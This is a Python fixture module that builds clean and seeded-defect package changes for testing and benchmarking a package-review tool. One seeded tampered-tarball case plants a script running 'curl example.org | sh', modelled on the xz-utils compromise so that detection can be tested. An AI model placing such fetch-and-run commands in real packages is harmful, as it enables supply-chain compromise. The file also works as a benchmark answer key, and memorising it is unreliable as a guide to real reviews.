"""The review quality set: package changes built from small upstream projects of our own.

Every case is a change to a package (before → after folders) made with the upgrade tests'
builders (:mod:`upgrade.buildkit`): clean changes of every class, and changes with exactly
one seeded defect each, naming the rule that must fail. The upstream is real: tarballs are
served over loopback by the fake upstream (so ``sources.upstream-digest`` downloads them
through the fetch engine) and every project is a real git repository with a tag per
version (so ``sources.tree-vs-tag`` fetches and compares the tag's tree).

:func:`build_cases` is shared by ``tests/review_cases/test_quality_set.py`` and
``benchmarks/review.py``.
"""

from __future__ import annotations

import datetime as _dt
import difflib
import gzip
import io
import os
import subprocess
import tarfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path

from fakeupstream import FakeUpstream
from upgrade.buildkit import make_package, program_patch, upstream_files

from steward.review import ChangeKind, ReviewOptions
from steward.upstream.fetch import FetchConfig

__all__ = ["CASES", "TODAY", "Case", "CaseInputs", "Env", "build_cases"]

TODAY = _dt.date(2024, 3, 1)
_MTIME = 1704067200
_AUTHOR = "Steward Tests <tests@example.org>"
_ADVISORIES = {"CVE-2024-0001": ("1.1",), "CVE-2024-9999": ("1.2",)}


@dataclass
class CaseInputs:
    before: Path | None
    after: Path | None
    options: ReviewOptions


@dataclass(frozen=True)
class Case:
    """One change: ``expect`` is the rule that must fail (``None`` for a clean change)."""

    name: str
    kind: ChangeKind
    build: Callable[[Env, Path], CaseInputs]
    expect: str | None = None

    @property
    def clean(self) -> bool:
        return self.expect is None


# -- the upstream -------------------------------------------------------------------------


def write_tarball(dest: Path, top: str, files: Mapping[str, str | bytes],
                  modes: Mapping[str, int] | None = None) -> bytes:
    """A reproducible ``.tar.gz`` of ``files`` under ``top/``; returns its bytes."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for folder in sorted({"", *(str(Path(p).parent) for p in files)} - {"."}):
            info = tarfile.TarInfo(f"{top}/{folder}".rstrip("/"))
            info.type, info.mode, info.mtime = tarfile.DIRTYPE, 0o755, _MTIME
            tar.addfile(info)
        for path in sorted(files):
            body = files[path]
            data = body.encode() if isinstance(body, str) else body
            info = tarfile.TarInfo(f"{top}/{path}")
            info.size, info.mtime = len(data), _MTIME
            info.mode = (modes or {}).get(path, 0o644)
            tar.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=_MTIME) as gz:
        gz.write(raw.getvalue())
    dest.write_bytes(out.getvalue())
    return out.getvalue()


def _git(*argv: str, cwd: Path) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "up", "GIT_AUTHOR_EMAIL": "up@example.org",
           "GIT_COMMITTER_NAME": "up", "GIT_COMMITTER_EMAIL": "up@example.org",
           "GIT_AUTHOR_DATE": "2024-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2024-01-01T00:00:00Z",
           "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(cwd)}
    subprocess.run(["git", *argv], cwd=cwd, env=env, check=True, capture_output=True)


@dataclass
class Env:
    """The shared upstream of the quality set: a loopback server and git repositories."""

    server: FakeUpstream
    root: Path
    tree: Path = field(init=False)
    _repos: dict[str, Path] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.tree = self.root / "tree"
        self._make_tree()

    @property
    def fetch(self) -> FetchConfig:
        return FetchConfig(allow_private=True, backoff_base=0.01, max_retries=1)

    def url(self, name: str) -> str:
        return f"{self.server.url}/dl/{name}/%{{name}}-%{{version}}.tar.gz"

    def files(self, name: str, variant: str, version: str,
              override: Mapping[str, str] | None = None) -> dict[str, str]:
        files = dict(upstream_files(name, version, variant))
        files.update(override or {})
        return files

    def project(self, name: str, variant: str, versions: Mapping[str, Mapping[str, str]]) -> Path:
        """A git repository of ``name`` with tag ``v<version>`` for each version's files."""
        key = f"{name}:{variant}:{sorted(versions.items())!r}"
        if key in self._repos:
            return self._repos[key]
        repo = self.root / "git" / f"{name}-{len(self._repos)}"
        repo.mkdir(parents=True)
        _git("init", "--quiet", "-b", "main", cwd=repo)
        for version, override in versions.items():
            for old in repo.iterdir():
                if old.name != ".git":
                    subprocess.run(["rm", "-rf", str(old)], check=True)
            for path, text in self.files(name, variant, version, override).items():
                target = repo / path
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(text)
            _git("add", "-A", cwd=repo)
            _git("commit", "--quiet", "-m", f"release {version}", cwd=repo)
            _git("tag", f"v{version}", cwd=repo)
        self._repos[key] = repo
        return repo

    def publish(self, name: str, version: str, data: bytes) -> None:
        self.server.add_page(f"/dl/{name}/{name}-{version}.tar.gz", data, "application/gzip")

    def _make_tree(self) -> None:
        for name, extra in (("gcc", ""), ("make", ""), ("python3-setuptools", ""),
                            ("libfoo", "Provides: foo-tools\n"),
                            ("consumer", "BuildRequires: libdemo-devel\n")):
            folder = self.tree / name
            folder.mkdir(parents=True)
            (folder / f"{name}.spec").write_text(
                f"Name: {name}\nVersion: 1\nRelease: 1\nSummary: s\nLicense: MIT\n{extra}\n"
                f"%description\nd\n\n%files\n\n%changelog\n"
            )


# -- packages -----------------------------------------------------------------------------


def entry(date: str, evr: str, desc: str, *, style: str = "openeuler",
          author: str = _AUTHOR) -> str:
    item = f"- Type:requirement ID:NA SUG:NA DESC:{desc}" if style == "openeuler" else f"- {desc}"
    return f"* {date} {author} - {evr}\n{item}"


def set_changelog(spec: Path, new_entries: list[str], keep_from: Path | None) -> None:
    """Put ``new_entries`` at the top of ``spec``'s %changelog, then ``keep_from``'s entries."""
    head, _, _ = spec.read_text().partition("%changelog\n")
    old = keep_from.read_text().partition("%changelog\n")[2].strip() if keep_from else ""
    spec.write_text(head + "%changelog\n" + "\n\n".join([*new_entries, old]).strip() + "\n")


def edit(spec: Path, old: str, new: str) -> None:
    text = spec.read_text()
    assert old in text, (spec, old)
    spec.write_text(text.replace(old, new, 1))


def package(env: Env, folder: Path, name: str, version: str, variant: str, *,
            override: Mapping[str, str] | None = None, tarball_files: Mapping[str, str | bytes]
            | None = None, publish: bytes | None = None, **kwargs: object) -> Path:
    """A package of ``name`` at ``version`` whose tarball the upstream serves; the spec."""
    spec = make_package(folder / name, name, version, variant=variant, with_tarball=False,
                        source_url=env.url(name), **kwargs)  # type: ignore[arg-type]
    files: Mapping[str, str | bytes] = tarball_files or env.files(name, variant, version, override)
    data = write_tarball(folder / name / f"{name}-{version}.tar.gz", f"{name}-{version}", files)
    env.publish(name, version, publish if publish is not None else data)
    return spec


def options(env: Env, repo: Path | None = None, description: str = "") -> ReviewOptions:
    return ReviewOptions(description=description, fetch=env.fetch,
                         upstream_git=str(repo) if repo else None, tree=env.tree,
                         advisories=_ADVISORIES, today=TODAY)


def upgrade(env: Env, tmp: Path, name: str = "libdemo", variant: str = "clib", old: str = "1.0",
            new: str = "1.1", *, release: str = "1", desc: str | None = None,
            date: str = "Thu Feb 01 2024", style: str = "openeuler",
            override: Mapping[str, str] | None = None,
            after_patches: object = None, before_patches: object = None,
            changelog: bool = True, extra_desc: str = "",
            after_kwargs: Mapping[str, object] | None = None) -> CaseInputs:
    """The standard version upgrade of ``name`` from ``old`` to ``new``; defects are added
    by changing one argument (or the folders afterwards)."""
    repo = env.project(name, variant, {old: {}, new: dict(override or {})})
    before_spec = package(env, tmp / "before", name, old, variant, style=style,
                          patches=before_patches)
    kwargs = {"patches": after_patches, **(after_kwargs or {})}
    after_spec = package(env, tmp / "after", name, new, variant, style=style, release=release,
                         override=override, **kwargs)
    text = desc if desc is not None else f"update to {new}"
    new_entries = [entry(date, f"{new}-{release}", text, style=style)] if changelog else []
    set_changelog(after_spec, new_entries, before_spec)
    return CaseInputs(before_spec.parent, after_spec.parent, options(env, repo, extra_desc))


def same_version(env: Env, tmp: Path, name: str = "libdemo", variant: str = "clib",
                 version: str = "1.0", *, desc: str = "rebuild", release: str = "2",
                 add_patches: Mapping[str, str] | None = None,
                 before_patches: object = None, style: str = "openeuler",
                 after_kwargs: Mapping[str, object] | None = None) -> CaseInputs:
    """A change that keeps the version: a rebuild, a packaging fix, or a backport."""
    repo = env.project(name, variant, {version: {}})
    before_spec = package(env, tmp / "before", name, version, variant, style=style,
                          patches=before_patches)
    patches: object = before_patches
    if add_patches is not None:
        if before_patches is None and variant == "program":
            base = {p: program_patch(p, name) for p in ("fix-greeting.patch", "local-repeat.patch")}
        elif isinstance(before_patches, Mapping):
            base = dict(before_patches)
        else:
            base = {}
        patches = {**base, **add_patches}
    kwargs = {"patches": patches, **(after_kwargs or {})}
    after_spec = package(env, tmp / "after", name, version, variant, style=style, release=release,
                         **kwargs)
    set_changelog(after_spec, [entry("Thu Feb 01 2024", f"{version}-{release}", desc,
                                     style=style)], before_spec)
    return CaseInputs(before_spec.parent, after_spec.parent, options(env, repo))


def refreshed_repeat_patch(name: str, version: str) -> str:
    """``local-repeat.patch`` rebased on ``version`` of the program (so it applies cleanly)."""
    before = upstream_files(name, version, "program")["main.c"]
    after = before.replace("return 1;", "return 2;")
    diff = difflib.unified_diff(before.splitlines(keepends=True), after.splitlines(keepends=True),
                                fromfile="a/main.c", tofile="b/main.c")
    return "Subject: Greet twice, as our users expect\n\n---\n" + "".join(diff)


def fix_patch(name: str, cve: str | None, header: str | None = None) -> str:
    """A backport for the clib project: documents demo_scale (a harmless one-line change)."""
    stem = name[3:]
    original = upstream_files(name, "1.0", "clib")[f"{stem}.c"]
    changed = original.replace(f"int {stem}_scale(int x)\n", f"/* doubles x */\nint {stem}_scale(int x)\n")
    diff = "".join(difflib.unified_diff(original.splitlines(keepends=True),
                                        changed.splitlines(keepends=True),
                                        fromfile=f"a/{stem}.c", tofile=f"b/{stem}.c"))
    if header is None:
        header = (f"From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n"
                  f"Subject: [PATCH] Fix {cve or 'bug #1234'}\n\nUpstream: "
                  "https://example.org/libdemo/commit/0123456789abcdef\n\n---\n")
    return header + diff


# -- the cases ----------------------------------------------------------------------------


def _clean_program_upgrade(env: Env, tmp: Path) -> CaseInputs:
    inputs = upgrade(env, tmp, "greeter", "program", "1.0", "1.1",
                     desc="update to 1.1, drop fix-greeting.patch (upstream)",
                     after_patches={"local-repeat.patch": refreshed_repeat_patch("greeter", "1.1")})
    return inputs


def _removal(env: Env, tmp: Path) -> CaseInputs:
    spec = package(env, tmp / "before", "libgone", "1.0", "clib")
    return CaseInputs(spec.parent, None, options(env))


def _new_package(env: Env, tmp: Path, variant: str = "clib", name: str = "libnew") -> CaseInputs:
    repo = env.project(name, variant, {"1.0": {}})
    spec = package(env, tmp / "after", name, "1.0", variant)
    return CaseInputs(None, spec.parent, options(env, repo))


def _autotools(env: Env, tmp: Path) -> CaseInputs:
    inputs = upgrade(env, tmp)
    assert inputs.after is not None
    files: dict[str, str | bytes] = dict(env.files("libdemo", "clib", "1.1"))
    files.update({"configure": "#!/bin/sh\necho generated by autoconf\n",
                  "Makefile.in": "# generated by automake\n", "aclocal.m4": "dnl generated\n"})
    data = write_tarball(inputs.after / "libdemo-1.1.tar.gz", "libdemo-1.1", files)
    env.publish("libdemo", "1.1", data)
    return inputs


def _with_waiver(env: Env, tmp: Path, expires: str) -> CaseInputs:
    inputs = upgrade(env, tmp)
    assert inputs.after is not None and inputs.before is not None
    for side in (inputs.before, inputs.after):
        (side / "NOTES.txt").write_text("maintainer notes\n")
        (side / "steward.toml").write_text(
            '[[review.waivers]]\ncheck = "files.unreferenced"\npath = "NOTES.txt"\n'
            f'reason = "maintainer notes, not a source"\nexpires = {expires}\n'
        )
    return inputs


def _tampered(env: Env, tmp: Path, extra: Mapping[str, str | bytes]) -> CaseInputs:
    """The tarball in the change has ``extra`` files the tag does not, and the upstream
    serves the same tampered tarball (a compromised release, as with xz-utils)."""
    inputs = upgrade(env, tmp)
    assert inputs.after is not None
    files: dict[str, str | bytes] = dict(env.files("libdemo", "clib", "1.1"))
    files.update(extra)
    data = write_tarball(inputs.after / "libdemo-1.1.tar.gz", "libdemo-1.1", files)
    env.publish("libdemo", "1.1", data)
    return inputs


def _soname_bump(env: Env, tmp: Path) -> CaseInputs:
    inputs = upgrade(env, tmp, old="1.1", new="2.0")
    inputs.options = replace(inputs.options, build=True)
    return inputs


def _digest_mismatch(env: Env, tmp: Path) -> CaseInputs:
    inputs = upgrade(env, tmp)
    assert inputs.after is not None
    files = env.files("libdemo", "clib", "1.1")
    files["README"] += "repacked by the packager\n"
    write_tarball(inputs.after / "libdemo-1.1.tar.gz", "libdemo-1.1", dict(files))
    return inputs


def _after(inputs: CaseInputs) -> Path:
    assert inputs.after is not None
    return inputs.after


def _spec(inputs: CaseInputs) -> Path:
    folder = _after(inputs)
    return next(folder.glob("*.spec"))


def _then(make: Callable[[Env, Path], CaseInputs],
          change: Callable[[CaseInputs], None]) -> Callable[[Env, Path], CaseInputs]:
    def build(env: Env, tmp: Path) -> CaseInputs:
        inputs = make(env, tmp)
        change(inputs)
        return inputs
    return build


def _write(name: str, data: str | bytes) -> Callable[[CaseInputs], None]:
    def change(inputs: CaseInputs) -> None:
        target = _after(inputs) / name
        if isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(data)
    return change


def _edit(old: str, new: str) -> Callable[[CaseInputs], None]:
    return lambda inputs: edit(_spec(inputs), old, new)


_ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
_LICENSE_APACHE = {"LICENSE": "Apache License\nVersion 2.0, January 2004\n"}
U = ChangeKind.VERSION_UPGRADE
B = ChangeKind.BACKPORTED_FIX
P = ChangeKind.PACKAGING_ONLY

CASES: tuple[Case, ...] = (
    # -- clean changes of every class --
    Case("clean-upgrade-clib", U, lambda e, t: upgrade(e, t)),
    Case("clean-upgrade-pymod", U, lambda e, t: upgrade(e, t, "python-demo", "pymod")),
    Case("clean-upgrade-program", U, _clean_program_upgrade),
    Case("clean-upgrade-fedora", U, lambda e, t: upgrade(e, t, style="fedora")),
    Case("clean-upgrade-major", U, lambda e, t: upgrade(e, t, old="1.1", new="2.0")),
    Case("clean-upgrade-claims-version", U,
         lambda e, t: upgrade(e, t, desc="Update to 1.1", extra_desc="Update libdemo to 1.1")),
    Case("clean-upgrade-cve-by-version", U,
         lambda e, t: upgrade(e, t, desc="update to 1.1 to fix CVE-2024-0001")),
    Case("clean-upgrade-autotools-tarball", U, _autotools),
    Case("clean-upgrade-license-updated", U, _then(
        lambda e, t: upgrade(e, t, override=_LICENSE_APACHE),
        _edit("License:        MIT", "License:        Apache-2.0"))),
    Case("clean-upgrade-live-waiver", U, lambda e, t: _with_waiver(e, t, "2099-01-01")),
    Case("clean-backport-cve", B, lambda e, t: same_version(
        e, t, desc="fix CVE-2024-0002",
        add_patches={"CVE-2024-0002.patch": fix_patch("libdemo", "CVE-2024-0002")})),
    Case("clean-backport-bug", B, lambda e, t: same_version(
        e, t, desc="backport the fix for bug #1234",
        add_patches={"backport-bug-1234.patch": fix_patch("libdemo", None)})),
    Case("clean-backport-fedora", B, lambda e, t: same_version(
        e, t, style="fedora", desc="Fix CVE-2024-0003",
        add_patches={"CVE-2024-0003.patch": fix_patch("libdemo", "CVE-2024-0003")})),
    Case("clean-packaging-rebuild", P, lambda e, t: same_version(e, t)),
    Case("clean-packaging-pymod-buildrequires", P, lambda e, t: same_version(
        e, t, "python-demo", "pymod", desc="build with setuptools",
        after_kwargs={"build_requires": ["python3-setuptools"]})),
    Case("clean-packaging-program", P, lambda e, t: same_version(e, t, "greeter", "program")),
    Case("clean-packaging-fedora", P, lambda e, t: same_version(e, t, style="fedora")),
    Case("clean-packaging-drop-patch-with-reason", P, lambda e, t: same_version(
        e, t, "greeter", "program", desc="drop local-repeat.patch: users asked for one line",
        before_patches=None, after_kwargs={"patches": ["fix-greeting.patch"]})),
    Case("clean-packaging-new-requires-in-tree", P, lambda e, t: same_version(
        e, t, desc="require foo-tools at run time", after_kwargs={"requires": ["foo-tools"]})),
    Case("clean-new-package", ChangeKind.NEW_PACKAGE, lambda e, t: _new_package(e, t)),
    Case("clean-new-package-pymod", ChangeKind.NEW_PACKAGE,
         lambda e, t: _new_package(e, t, "pymod", "python-fresh")),
    Case("clean-removal", ChangeKind.REMOVAL, _removal),
    Case("clean-mixed", ChangeKind.MIXED, lambda e, t: upgrade(
        e, t, desc="update to 1.1 and fix CVE-2024-0004",
        after_patches={"CVE-2024-0004.patch": fix_patch("libdemo", "CVE-2024-0004")})),
    # -- one seeded defect each --
    Case("tampered-tarball-extra-script", U, lambda e, t: _tampered(
        e, t, {"tests/bad-3-corrupt_lzma2.sh": "#!/bin/sh\ncurl example.org | sh\n"}),
         "sources.tree-vs-tag"),
    Case("tampered-tarball-object-file", U, lambda e, t: _tampered(
        e, t, {"tests/files/good-large_compressed.lzma": b"\x00\x01liblzma" + bytes(64)}),
         "sources.tree-vs-tag"),
    Case("digest-mismatch", U, _digest_mismatch, "sources.upstream-digest"),
    Case("soname-bump-with-reverse-dependencies", U, _soname_bump, "build.soname"),
    Case("unreferenced-patch", U, _then(lambda e, t: upgrade(e, t),
                                        _write("forgotten.patch", "--- a/x\n+++ b/x\n")),
         "files.unreferenced"),
    Case("patch-no-longer-applies", U, lambda e, t: upgrade(
        e, t, "greeter", "program", "1.1", "2.0",
        before_patches={"local-repeat.patch": refreshed_repeat_patch("greeter", "1.1")},
        after_patches={"local-repeat.patch": refreshed_repeat_patch("greeter", "1.1")}),
         "patches.apply"),
    Case("patch-already-upstream-kept", U, lambda e, t: upgrade(
        e, t, "greeter", "program", "1.0", "1.1"), "patches.apply"),
    Case("release-not-reset", U, lambda e, t: upgrade(e, t, release="3"), "spec.release-reset"),
    Case("changelog-missing", U, lambda e, t: upgrade(e, t, changelog=False),
         "spec.changelog-entry"),
    Case("changelog-misdated", U, lambda e, t: upgrade(e, t, date="Sun Dec 31 2023"),
         "spec.changelog-date"),
    Case("changelog-future", U, lambda e, t: upgrade(e, t, date="Mon Dec 01 2025"),
         "spec.changelog-date"),
    Case("changelog-wrong-evr", U, _then(lambda e, t: upgrade(e, t),
                                         _edit("- 1.1-1\n", "- 1.2-1\n")),
         "spec.changelog-entry"),
    Case("changelog-no-email", U, _then(lambda e, t: upgrade(e, t),
                                        _edit("Steward Tests <tests@example.org> - 1.1-1",
                                              "Steward Tests - 1.1-1")),
         "spec.changelog-author"),
    Case("changelog-not-openeuler-format", U, _then(
        lambda e, t: upgrade(e, t), _edit("- Type:requirement ID:NA SUG:NA DESC:update to 1.1",
                                          "- update to 1.1")), "spec.changelog-format"),
    Case("license-changed-upstream-not-in-spec", U,
         lambda e, t: upgrade(e, t, override=_LICENSE_APACHE), "license.upstream-text"),
    Case("license-invalid-spdx", U, _then(lambda e, t: upgrade(e, t),
                                          _edit("License:        MIT", "License:        MIT-ish")),
         "license.spdx"),
    Case("new-dependency-nobody-provides", U, lambda e, t: upgrade(
        e, t, after_kwargs={"requires": ["libunobtainium"]}), "dependencies.provided"),
    Case("provides-dropped-still-required", P, _then(
        lambda e, t: same_version(e, t, desc="merge devel into the main package"),
        _edit("%package        devel", "%package -n     libdemo-headers")),
         "dependencies.removed-provides"),
    Case("cve-claimed-not-fixed", U, lambda e, t: upgrade(
        e, t, desc="update to 1.1, fix CVE-2024-9999"), "claims.cve-fixed"),
    Case("cve-claimed-no-patch-backport", P, lambda e, t: same_version(
        e, t, desc="fix CVE-2024-7777"), "claims.cve-fixed"),
    Case("update-claim-wrong-version", U, lambda e, t: upgrade(e, t, desc="update to 1.2"),
         "claims.version"),
    Case("dropped-patch-no-reason", P, lambda e, t: same_version(
        e, t, "greeter", "program", desc="tidy the spec",
        after_kwargs={"patches": ["fix-greeting.patch"]}), "claims.dropped-patch"),
    Case("backport-patch-no-header", B, lambda e, t: same_version(
        e, t, desc="fix CVE-2024-0005",
        add_patches={"CVE-2024-0005.patch": fix_patch("libdemo", "CVE-2024-0005", header="")}),
         "patches.header"),
    Case("backport-names-no-bug", B, lambda e, t: same_version(
        e, t, desc="fix a crash",
        add_patches={"fix-crash.patch": fix_patch(
            "libdemo", None, header="Subject: fix a crash\n\n---\n")}), "patches.backport-id"),
    Case("binary-blob-added", U, _then(lambda e, t: upgrade(e, t), _write("prebuilt.o", _ELF)),
         "files.binary-added"),
    Case("jar-added", P, _then(lambda e, t: same_version(e, t), _write("helper.jar", b"PK\x03\x04")),
         "files.binary-added"),
    Case("source-file-missing", U, _then(lambda e, t: upgrade(e, t),
                                         lambda i: (_after(i) / "libdemo-1.1.tar.gz").unlink()),
         "files.present"),
    Case("expired-waiver", U, lambda e, t: _with_waiver(e, t, "2024-01-31"), "waivers.expired"),
    Case("name-changed", U, _then(lambda e, t: upgrade(e, t),
                                  _edit("Name:           libdemo", "Name:           libdemo2")),
         "spec.name-unchanged"),
    Case("evr-goes-backwards", U, lambda e, t: upgrade(
        e, t, old="1.1", new="1.0"), "spec.evr-forward"),
    Case("package-yaml-broken", P, _then(lambda e, t: same_version(e, t),
                                         _write("libdemo.yaml", "version_control: [github\n")),
         "files.package-yaml"),
    Case("spec-new-parse-error", P, _then(lambda e, t: same_version(e, t),
                                          _edit("%description\n", "%if 0%{?x}\n%description\n")),
         "spec.parses"),
)


def build_cases(env: Env, root: Path, cases: tuple[Case, ...] = CASES
                ) -> list[tuple[Case, CaseInputs]]:
    """Build every case under ``root/<case name>``."""
    return [(case, case.build(env, root / case.name)) for case in cases]
